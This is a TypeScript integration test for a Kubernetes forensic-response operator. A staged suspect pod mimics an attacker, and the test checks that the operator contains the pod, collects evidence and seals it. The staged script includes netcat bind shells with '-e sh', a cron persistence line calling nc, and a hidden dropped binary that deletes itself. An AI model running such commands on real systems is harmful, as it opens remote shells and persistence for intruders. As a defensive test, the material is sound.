import { CoreV1Api, CustomObjectsApi, type V1Pod } from '@kubernetes/client-node';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import YAML from 'yaml';
import { GROUP, VERSION } from '../../../src/api/common.js';
import { RESPONSE_POLICY } from '../../../src/api/responsepolicy.js';
import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
import { verifyCase } from '../../../src/evidence/verify.js';
import { startIntake, type RunningIntake } from '../../../src/intake/index.js';
import { silentLogger } from '../../../src/observability/logger.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { postLikeFalcosidekick } from '../../testenv/falcosidekick.js';
import { cacheDir, versions } from '../../testenv/binaries.js';
import { installCrds } from '../../testenv/crds.js';
import { startCluster, type Cluster } from '../../testenv/kube.js';
import { startMinio, type Minio } from '../../testenv/minio.js';
import {
  NODE_POD_LOGS,
  NODE_SNAPSHOTS,
  RealNode,
  buildImages,
  nodeUnavailable,
  type Image,
} from '../../testenv/node.js';
import { NodePods } from '../../testenv/node-pods.js';
import { startCaseController } from '../../testenv/operator.js';
import { freePort } from '../../testenv/ports.js';
import { OPERATOR_NAMESPACE, operatorKubeConfig } from '../../testenv/rbac.js';
import { forwardToLoopback, type Forward } from '../../testenv/node-scenario.js';
import { waitFor } from '../../testenv/wait.js';
import { Workloads, type CaseView } from '../../testenv/workload.js';
import { createSigningKeySecret } from '../collection/helpers.js';

const unavailable = nodeUnavailable();
if (unavailable) console.warn(`SKIPPED test/integration/node/collection.test.ts: ${unavailable}`);

const root = join(import.meta.dirname, '..', '..', '..');
const fixtures = join(root, 'test', 'fixtures', 'falco');
const kubectlPath = join(cacheDir, `kubelet-${versions.kube}`, 'kubectl');
const TOKEN = 'node-test-token-0123456789abcdef';

type SealedView = CaseView & { status?: CaseView['status'] & { artifacts?: { name: string }[] } };

/**
 * The collection Job for real (issue 11, item 3): the operator contains a suspect pod on the real
 * node and runs `amber collect` as a Job there, from the image built from the Dockerfile; the
 * collector reads the containerd-managed container from the host side and streams to MinIO.
 */
describe.skipIf(unavailable)('the collection Job on a real node', () => {
  let cluster: Cluster;
  let minio: Minio;
  let node: RealNode;
  let pods: NodePods;
  let w: Workloads;
  let amber: Image;
  let forward: Forward;
  let publicKeyPem: string;
  let operator: Awaited<ReturnType<typeof startCaseController>>;
  let intake: RunningIntake;

  beforeAll(async () => {
    amber = buildImages('amber').amber!;
    [cluster, minio] = await Promise.all([
      startCluster({ realNode: true, controllerManager: true }),
      startMinio(),
    ]);
    node = await RealNode.start(cluster, [amber]);
    // MinIO listens on 127.0.0.1; the Job's pod reaches it at the node's own address.
    forward = await forwardToLoopback(node.address, Number(new URL(minio.endpoint).port));
    const admin = cluster.kubeConfig();
    await installCrds(admin);
    pods = new NodePods(admin);
    w = new Workloads(admin);
    await w.namespace('shop');
    const opKc = await operatorKubeConfig(cluster);
    ({ publicKeyPem } = await createSigningKeySecret(admin));
    await admin.makeApiClient(CoreV1Api).createNamespacedSecret({
      namespace: OPERATOR_NAMESPACE,
      body: {
        metadata: { name: 'amber-s3-credentials' },
        stringData: { AWS_ACCESS_KEY_ID: minio.accessKey, AWS_SECRET_ACCESS_KEY: minio.secretKey },
      },
    });
    await admin.makeApiClient(CustomObjectsApi).createClusterCustomObject({
      group: GROUP,
      version: VERSION,
      plural: RESPONSE_POLICY.plural,
      body: {
        apiVersion: `${GROUP}/${VERSION}`,
        kind: RESPONSE_POLICY.kind,
        metadata: { name: 'sensitive-reads' },
        spec: {
          match: { rules: ['Read sensitive file*'], namespaces: ['shop'] },
          evidence: {
            store: { type: 's3', bucket: minio.bucket, endpoint: forward.endpoint, prefix: 'amber/' },
            retention: { mode: 'GOVERNANCE', days: 1 },
          },
        },
      },
    });
    // The webhook as the operator's ServiceAccount, as in the Deployment.
    intake = await startIntake({
      kubeConfig: opKc,
      registry: createRegistry(),
      logger: silentLogger,
      token: TOKEN,
      port: await freePort(),
      host: '127.0.0.1',
      flushIntervalMs: 50,
    });
    await waitFor(
      'the policy in force',
      async () => intake.engine.policyNames(),
      (n) => n.includes('sensitive-reads'),
    );
    operator = await startCaseController(opKc, {
      collection: {
        mode: 'job',
        image: amber.ref,
        snapshotterRoots: [NODE_SNAPSHOTS],
        podLogsDir: NODE_POD_LOGS,
        pollMs: 1_000,
        // Not about the seal's wait for the Job credentials' expiry (900 s at least): tested in
        // test/integration/collection/job.test.ts.
        jobCredentials: { sealAfterExpiry: false },
        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
      },
    });
  }, 20 * 60_000);
  afterAll(async () => {
    await intake?.close();
    await operator?.stop();
    await forward?.close();
    await node?.stop();
    await minio?.stop();
    await cluster?.stop();
  }, 120_000);

  let peer: V1Pod;

  /** A pod on the real node doing what an attacker does; resolves once it has done it all. */
  async function suspect(name: string): Promise<V1Pod> {
    // The attacker's outbound connection, opened before containment: the peer sends a line every
    // 200 ms for as long as packets get through.
    peer ??= await pods.run('shop', 'peer', node.images.busybox!.ref, [
      'nc',
      '-ll',
      '-p',
      '8080',
      '-e',
      'sh',
      '-c',
      'while true; do echo tick; sleep 0.2; done',
    ]);
    const attacker = [
      // busybox runs the applet its file is named after: the dropped copy is a "sleep".
      'mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && /tmp/.x/sleep 3600 &',
      'sleep 0.5; rm -rf /tmp/.x',
      'echo "nameserver 10.9.9.9" > /etc/evil.conf',
      'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
      'nc -ll -p 4444 -e sh &',
      // A connection held open: nc ends when its stdin does, and a background job's is /dev/null.
      `sleep 3600 | nc ${peer.status!.podIP} 8080 > /tmp/ticks &`,
      'echo attacker ready',
      'exec sleep 3600',
    ].join('\n');
    const pod = await pods.run('shop', name, node.images.busybox!.ref, ['sh', '-c', attacker]);
    await waitFor(
      'the attacker done',
      () => pods.logs('shop', name),
      (l) => l.includes('attacker ready'),
    );
    const before = await ticks(name);
    await waitFor(
      'ticks over the held connection',
      () => ticks(name),
      (n) => n > before,
    );
    return pod;
  }

  const ticks = async (pod: string) =>
    Number(
      (await pods.exec('shop', pod, ['sh', '-c', 'wc -c < /tmp/ticks 2>/dev/null || echo 0'])).stdout.trim(),
    );

  /** Waits for the case to be sealed, then checks every attacker action is in verified evidence. */
  async function expectSealed(caseName: string, pod: V1Pod, started: number): Promise<void> {
    let kase: SealedView;
    try {
      kase = (await w.waitForPhase(caseName, 'Sealed', 180_000)) as SealedView;
    } finally {
      const jobPods = await pods.core.listNamespacedPod({ namespace: OPERATOR_NAMESPACE });
      for (const p of jobPods.items) {
        console.log(
          `collection pod ${p.metadata?.name}: ${JSON.stringify(p.status?.containerStatuses?.[0]?.state)}`,
        );
      }
      console.log(JSON.stringify((await w.getCase(caseName)).status, null, 1).slice(0, 4000));
    }
    console.log(`job collection on a real node: ${caseName} -> Sealed in ${Date.now() - started} ms`);

    const collected = kase.status?.conditions?.find((x) => x.type === 'EvidenceCollected');
    expect(collected).toMatchObject({ status: 'True', reason: 'Collected' });
    const store = new S3EvidenceStore({
      client: minio.client(),
      bucket: minio.bucket,
      prefix: 'amber',
      registry: createRegistry(),
    });
    const report = await verifyCase(store.caseLocation(caseName), {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(report.ok).toBe(true);
    const names = (kase.status?.artifacts ?? []).map((a) => a.name);
    const dir = names
      .find((n) => n.startsWith('containers/'))!
      .split('/')
      .slice(0, 2)
      .join('/');
    const read = async (name: string) => {
      const chunks: Buffer[] = [];
      for await (const chunk of await store.get(caseName, name)) chunks.push(Buffer.from(chunk as Buffer));
      return Buffer.concat(chunks).toString('utf8');
    };

    // Every attacker action is in the evidence, read from the host side of a containerd container.
    const diff = await read(`${dir}/filesystem/diff.json`);
    expect(diff).toContain('/etc/evil.conf');
    expect(diff).toContain('/var/spool/cron/crontabs/root');
    const processes = JSON.parse(await read(`${dir}/processes.json`)) as {
      processes: { exe?: { path: string; deleted: boolean; artifact?: string } }[];
    };
    const dropped = processes.processes.find((p) => p.exe?.path === '/tmp/.x/sleep');
    expect(dropped?.exe).toMatchObject({ deleted: true, artifact: expect.stringMatching(/exe\.bin$/) });
    const network = await read(`${dir}/network.json`);
    expect(network).toContain('4444');
    expect(network).toContain(peer.status!.podIP!);
    // The container's log, read through the API server and the kubelet.
    expect(await read('orchestrator/logs/main.current.log')).toContain('attacker ready');
    // And the kubelet's own log file, read by the collector from the node's podLogsDir.
    expect(await read(`${dir}/logs/main/0.log`)).toContain('attacker ready');

    // The connection opened before containment: in the socket table, then cut on the node, so
    // the deny-all policy applies to it too. Nothing more arrives over it.
    const cut = JSON.parse(await read(`${dir}/connections-cut.json`)) as {
      flows: { address: string; direction: string; deleted?: number; error?: string }[];
    };
    const flows = cut.flows.filter((f) => f.address === pod.status!.podIP);
    expect(flows.map((f) => f.error).filter(Boolean)).toEqual([]);
    expect(flows.reduce((n, f) => n + (f.deleted ?? 0), 0)).toBeGreaterThan(0);
    const afterCut = await ticks(pod.metadata!.name!);
    await sleep(2_000); // a negative: ten ticks' time, and none may arrive
    expect(await ticks(pod.metadata!.name!)).toBe(afterCut);
  }

  it('a Falco alert posted as Falcosidekick posts it: contained, collected by a Job on the node, sealed; verify passes', async () => {
    const pod = await suspect('suspect');
    const containerId = pod.status!.containerStatuses![0]!.containerID!.replace(/^[a-z]+:\/\//, '');
    // A real Falco event (test/fixtures/falco), about this pod and its container.
    const event = JSON.parse(readFileSync(join(fixtures, 'syscall-read-sensitive-file.json'), 'utf8')) as {
      output_fields: Record<string, unknown>;
      time: string;
    };
    Object.assign(event.output_fields, {
      'k8s.ns.name': 'shop',
      'k8s.pod.name': 'suspect',
      'container.id': containerId.slice(0, 12),
      'container.name': 'main',
    });
    event.time = new Date().toISOString();
    const started = Date.now();
    const res = await postLikeFalcosidekick(intake.url, JSON.stringify(event), {
      Authorization: `Bearer ${TOKEN}`,
    });
    expect(res.status).toBe(202);
    const answer = JSON.parse(res.body) as { outcome: string; case: string };
    expect(answer.outcome).toBe('opened');
    await expectSealed(answer.case, pod, started);
  });

  it('a ForensicCase applied with kubectl from deploy/examples goes the same way', async () => {
    const pod = await suspect('suspect-k');
    const example = YAML.parse(
      readFileSync(join(root, 'deploy', 'examples', 'forensiccase.yaml'), 'utf8'),
    ) as {
      metadata: { name: string };
      spec: { target: { namespace: string; pod: string }; evidence: { store: Record<string, unknown> } };
    };
    // Only what ties the example to this cluster: the pod, and the bucket.
    example.spec.target = { ...example.spec.target, namespace: 'shop', pod: 'suspect-k' };
    Object.assign(example.spec.evidence.store, { bucket: minio.bucket, endpoint: forward.endpoint });
    const started = Date.now();
    execFileSync(kubectlPath, ['--kubeconfig', cluster.kubeconfigPath, 'apply', '-f', '-'], {
      input: YAML.stringify(example),
      encoding: 'utf8',
    });
    await expectSealed(example.metadata.name, pod, started);
  });
});
